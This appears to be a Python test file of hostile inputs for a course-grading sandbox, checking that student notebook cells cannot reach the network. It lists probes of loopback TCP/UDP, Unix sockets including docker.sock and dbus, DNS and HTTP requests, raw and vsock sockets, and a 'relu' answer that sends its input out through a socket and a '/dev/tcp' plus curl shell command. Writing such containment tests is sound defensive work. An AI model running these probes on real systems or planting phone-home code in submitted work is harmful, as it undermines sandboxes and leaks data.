"""Reach the network: a listener of the tests stands on this machine's loopback and counts who comes."""

from attacks.base import ESCAPED, Attack, by_cell
from coursekit.grading.record import State

_AIM = "reach the network"
_ENDS = frozenset({State.GRADED, State.STUDENT_ERROR})
_SAY = f"{ESCAPED[:3]!r} + {ESCAPED[3:]!r}"

ATTACKS: list[Attack] = [
    by_cell(
        "sockets-to-the-host",
        _AIM,
        source=f"""\
import socket
for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_INET, "0.0.0.0")):
    address = (host, @port@)
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(family, kind) as one:
                one.settimeout(0.3)
                one.connect(address)
                one.send(b"hello")
                if kind == socket.SOCK_STREAM:
                    print({_SAY}, address)
        except OSError as refused:
            print("refused", refused)""",
        states=_ENDS,
    ),
    by_cell(
        "unix-sockets-to-the-host",
        _AIM,
        source=f"""\
import glob, socket
for address in ("@socket@", "\\0coursekit-hostile-@port@", "/run/dbus/system_bus_socket",
                "/var/run/docker.sock", "/run/systemd/private",
                *glob.glob("/tmp/.X11-unix/*"), *glob.glob("/run/*/*sock*")):
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_UNIX, kind) as one:
                one.connect(address)
                one.send(b"hello")
                print({_SAY}, repr(address))
        except OSError as refused:
            pass""",
        states=_ENDS,
    ),
    by_cell(
        "names-and-pages",
        _AIM,
        source=f"""\
import socket, urllib.request
socket.setdefaulttimeout(0.3)
for name in ("attack.invalid", "localhost"):
    try:
        print(socket.getaddrinfo(name, 80))
    except OSError as refused:
        print("refused", refused)
for page in ("http://127.0.0.1:@port@/", "http://localhost:@port@/", "ftp://127.0.0.1:@port@/x"):
    try:
        print({_SAY}, urllib.request.urlopen(page, timeout=0.3).status)
    except Exception as refused:
        print("refused", refused)""",
        states=_ENDS,
    ),
    by_cell(
        "other-kinds-of-sockets",
        _AIM,
        source=f"""\
import socket
kinds = [(17, 3, 0x0300), (2, 3, 1), (10, 3, 58), (16, 3, 0), (16, 3, 9), (40, 1, 0), (38, 5, 0), (31, 3, 1)]
for family, kind, protocol in kinds:
    try:
        with socket.socket(family, kind, protocol) as one:
            one.settimeout(0.2)
            if family == 17:
                one.bind(("lo", 0))
                print({_SAY}, "packets")
            if family == 40:
                one.connect((2, 22))
                print({_SAY}, "vsock")
            print("opened", family)
    except (OSError, TypeError) as refused:
        print("refused", family, refused)
import fcntl, struct
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        for name in ("eth0", "ens3", "ens5", "enp0s3"):
            try:
                fcntl.ioctl(one, 0x8915, struct.pack("256s", name.encode()))
                print({_SAY}, name)
            except OSError:
                pass
except OSError:
    pass""",
        states=_ENDS,
    ),
    by_cell(
        "answers-that-phone-home",
        _AIM,
        answers={
            "relu": f"""
import socket, subprocess
def relu(x):
    try:
        with socket.create_connection(("127.0.0.1", @port@), timeout=0.2) as one:
            one.sendall(x.tobytes())
            raise ValueError({_SAY})
    except OSError:
        pass
    try:
        command = "exec 3<>/dev/tcp/127.0.0.1/@port@; curl -m 1 http://127.0.0.1:@port@/"
        subprocess.run(["/bin/sh", "-c", command], capture_output=True, timeout=1)
    except (OSError, subprocess.SubprocessError):
        pass
    return x
"""
        },
        states=_ENDS | {State.TIMEOUT},
    ),
]
